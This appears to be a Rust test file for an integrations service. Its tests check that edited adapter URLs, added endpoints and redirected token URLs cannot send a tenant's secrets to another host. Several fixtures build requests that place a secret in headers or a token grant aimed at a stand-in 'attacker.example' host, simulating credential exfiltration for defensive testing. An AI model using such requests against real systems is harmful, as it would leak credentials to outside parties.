//! A URL that was changed makes no secret usable elsewhere: the other name is not even looked up, and one entry is left in the
//! ledger.

use std::time::Duration;

use proto::integrations::v1::{ApiKey, Endpoint, Integration, RunAdapterRequest, api_key::Place, auth::Kind};
use serde_json::{Value, json};
use tonic::Status;

use super::{
    counterpart::{self, Counterpart, HOST},
    tokens::client_credentials,
    world::{World, get, metadata, open, refused},
};

const VALUE: &str = "canary-0123456789abcdef";

/// What the ledger holds of a release that was refused.
fn record(by: &str, secret: &str, destination: &str, purpose: &str) -> Value {
    json!({
        "kind": "refused", "by": by, "secret": format!("tenants/acme/secrets/{secret}"),
        "destination": destination, "purpose": purpose, "reason": "SECRET_OUT_OF_SCOPE",
    })
}

/// The last of so many refusals, but for the call that it was of.
async fn refusal(world: &World, count: usize) -> Value {
    let mut refusals = world.refusals().await;
    assert_eq!(refusals.len(), count, "{refusals:?}");
    let mut last = refusals.pop().unwrap();
    let of_the_chain = ["sequence", "time", "previous", "hash"];
    let of_the_call = ["integration", "integration_etag", "adapter", "adapter_etag"];
    last.as_object_mut()
        .unwrap()
        .retain(|key, _| !of_the_chain.iter().chain(&of_the_call).any(|one| one == key));
    last
}

/// The attacker's own name, on a port that may leave.
fn attacker(counterpart: &Counterpart) -> String {
    format!("https://attacker.example:{}", counterpart.port())
}

fn key() -> Option<Kind> {
    let place = Some(Place::Header("X-Api-Key".into()));
    Some(Kind::ApiKey(ApiKey { place, value: "{{secret:key}}".into() }))
}

/// An integration that lists the attacker too.
fn wide(counterpart: &Counterpart, auth: Option<Kind>) -> Integration {
    let mut integration = open(counterpart, auth);
    integration.endpoints.push(Endpoint { url: format!("{}/**", attacker(counterpart)), methods: vec![] });
    integration
}

/// What an adapter's runs come to once its new text has arrived: until then the old one runs.
async fn ended(world: &World, adapter: &str) -> Status {
    let refused = async {
        loop {
            if let Err(status) = world.run(adapter, "{}").await {
                break status;
            }
            tokio::task::yield_now().await;
        }
    };
    tokio::time::timeout(Duration::from_secs(30), refused).await.expect("the new text arrives")
}

#[tokio::test]
async fn an_adapter_whose_url_was_edited_is_refused_before_the_name_is_looked_up() {
    let counterpart = Counterpart::quiet().await;
    let world = World::new(&counterpart).await;
    world.secret("key", VALUE, &counterpart.origin()).await;
    world.create("CRM", wide(&counterpart, None)).await.unwrap();
    world.create("KEYED", wide(&counterpart, key())).await.unwrap();
    let evil = attacker(&counterpart);
    let literal = format!("https://127.0.0.1:{}", counterpart.port());
    // With the secret in a header, within an HMAC, and injected by the integration; and through no integration at all.
    for (before, (adapter, integration, headers, elsewhere)) in [
        ("ADAPTER.HEADER", Some("CRM"), json!({ "X-Key": "{{secret:key}}" }), &evil),
        ("ADAPTER.DIGEST", Some("CRM"), json!({ "X-Key": "${hmac:sha256,{{secret:key}},text}" }), &evil),
        ("ADAPTER.INJECTED", Some("KEYED"), json!({}), &evil),
        ("ADAPTER.ANYWHERE", None, json!({ "X-Key": "{{secret:key}}" }), &evil),
        ("ADAPTER.LITERAL", None, json!({ "X-Key": "{{secret:key}}" }), &literal),
    ]
    .into_iter()
    .enumerate()
    {
        let text = |origin: &str| {
            let url = format!("{origin}/v1?q=query-canary");
            let request = json!({ "method": "GET", "url": url, "headers": headers });
            let mut adapter = json!({ "requestMapping": request });
            if let Some(integration) = integration {
                adapter["integration"] = json!(integration);
            }
            adapter.to_string()
        };
        world.register(adapter, text(&counterpart.origin())).await;
        world.run(adapter, "{}").await.unwrap();
        world.register(adapter, text(elsewhere)).await;
        let status = refused::<()>(Err(ended(&world, adapter).await), "SECRET_OUT_OF_SCOPE");
        assert_eq!(metadata(&status, "secret"), "key", "{adapter}");
        let expected = record("integrations", "key", elsewhere, "PURPOSE_CALL");
        assert_eq!(refusal(&world, before + 1).await, expected, "{adapter}");
    }
    // What was sent was looked up, and nothing else was: neither the other name, nor an address without one.
    let asked = world.names.asked();
    assert_eq!(asked, vec![HOST; counterpart.seen().len()]);
}

#[tokio::test]
async fn a_call_of_an_integration_to_another_origin_is_refused_before_the_name_is_looked_up() {
    let counterpart = Counterpart::quiet().await;
    let world = World::new(&counterpart).await;
    world.secret("key", VALUE, &counterpart.origin()).await;
    world.create("CRM", wide(&counterpart, key())).await.unwrap();
    let evil = attacker(&counterpart);
    refused(world.execute(get(format!("{evil}/v1?q=query-canary"))).await, "SECRET_OUT_OF_SCOPE");
    assert_eq!(refusal(&world, 1).await, record("integrations", "key", &evil, "PURPOSE_CALL"));
    assert_eq!((world.names.asked(), counterpart.seen().len()), (vec![], 0));
    world.execute(get(format!("{}/v1", counterpart.origin()))).await.unwrap();
    assert_eq!(world.names.asked(), [HOST]);
    assert_eq!(world.refusals().await.len(), 1);
}

#[tokio::test]
async fn a_token_url_that_was_edited_is_not_looked_up() {
    let counterpart = Counterpart::quiet().await;
    let world = World::with_real_tokens(&counterpart).await;
    let evil = attacker(&counterpart);
    let Kind::ClientCredentials(mut grant) = client_credentials() else { unreachable!() };
    grant.token_url = format!("{evil}/token?q=query-canary");
    world.crm(&counterpart, Some(Kind::ClientCredentials(grant))).await;
    world.client_secret(VALUE, &counterpart.origin(), &[]).await;
    refused(world.execute(get(format!("{}/v1", counterpart.origin()))).await, "SECRET_OUT_OF_SCOPE");
    assert_eq!(refusal(&world, 1).await, record("tokens", "crm-client-secret", &evil, "PURPOSE_TOKEN"));
    assert_eq!((world.names.asked(), counterpart.seen().len()), (vec![HOST.to_owned()], 0));
}

#[tokio::test]
async fn an_endpoint_that_was_added_is_sent_no_token() {
    let answer = r#"{"access_token": "bought-token-canary", "token_type": "Bearer", "expires_in": 3600}"#;
    let counterpart = Counterpart::http2(move |_, _| counterpart::json(200, answer)).await;
    let world = World::with_real_tokens(&counterpart).await;
    let evil = attacker(&counterpart);
    let Kind::ClientCredentials(mut grant) = client_credentials() else { unreachable!() };
    grant.token_url = format!("{}/token", counterpart.origin());
    world.create("CRM", wide(&counterpart, Some(Kind::ClientCredentials(grant)))).await.unwrap();
    world.client_secret(VALUE, &counterpart.origin(), &[&counterpart.origin()]).await;
    let refused_once = async |count: usize| {
        let status =
            refused(world.execute(get(format!("{evil}/v1?q=query-canary"))).await, "SECRET_OUT_OF_SCOPE");
        assert_eq!(metadata(&status, "secret"), "crm-client-secret");
        assert_eq!(metadata(&status, "host"), "attacker.example");
        let expected = json!({
            "kind": "token_refused", "by": "integrations",
            "secret": "tenants/acme/secrets/crm-client-secret", "destination": evil,
            "reason": "SECRET_OUT_OF_SCOPE",
        });
        assert_eq!(refusal(&world, count).await, expected);
    };
    // Nothing was fetched for it, and no name looked up.
    refused_once(1).await;
    assert_eq!((world.names.asked(), counterpart.seen().len()), (vec![], 0));
    // Nor is a token handed out for it that is kept.
    assert_eq!(world.execute(get(format!("{}/v1", counterpart.origin()))).await.unwrap().status, 200);
    let seen = counterpart.seen().len();
    assert_eq!(seen, 2);
    refused_once(2).await;
    assert_eq!(counterpart.seen().len(), seen);
    // Where no origin is named for tokens, they go to the secret's own.
    world.client_secret(VALUE, &counterpart.origin(), &[]).await;
    refused_once(3).await;
    assert_eq!(world.execute(get(format!("{}/v1", counterpart.origin()))).await.unwrap().status, 200);
}

#[tokio::test]
async fn a_run_for_a_unit_uses_the_unit_s_own_secrets() {
    let counterpart = Counterpart::quiet().await;
    let world = World::new(&counterpart).await;
    world.secret("key", "shared-key-4f9d2c71", &counterpart.origin()).await;
    world.private_secret("north", "key", "private-to-north", &counterpart.origin()).await;
    world.create("KEYED", open(&counterpart, key())).await.unwrap();
    let url = format!("{}/v1", counterpart.origin());
    let adapter = json!({ "integration": "KEYED", "requestMapping": { "method": "GET", "url": url } });
    world.register("ADAPTER.KEYED", adapter.to_string()).await;
    for (parent, sent) in [
        ("tenants/acme", "shared-key-4f9d2c71"),
        ("tenants/acme/businessUnits/north", "private-to-north"),
        ("tenants/acme/businessUnits/south", "shared-key-4f9d2c71"),
    ] {
        let before = counterpart.seen().len();
        let name = format!("{parent}/registers/ADAPTER.KEYED");
        let request = RunAdapterRequest { name, input: "{}".into() };
        world.adapters().run_adapter(request).await.unwrap();
        assert_eq!(counterpart.seen()[before].header("x-api-key"), sent, "{parent}");
    }
}
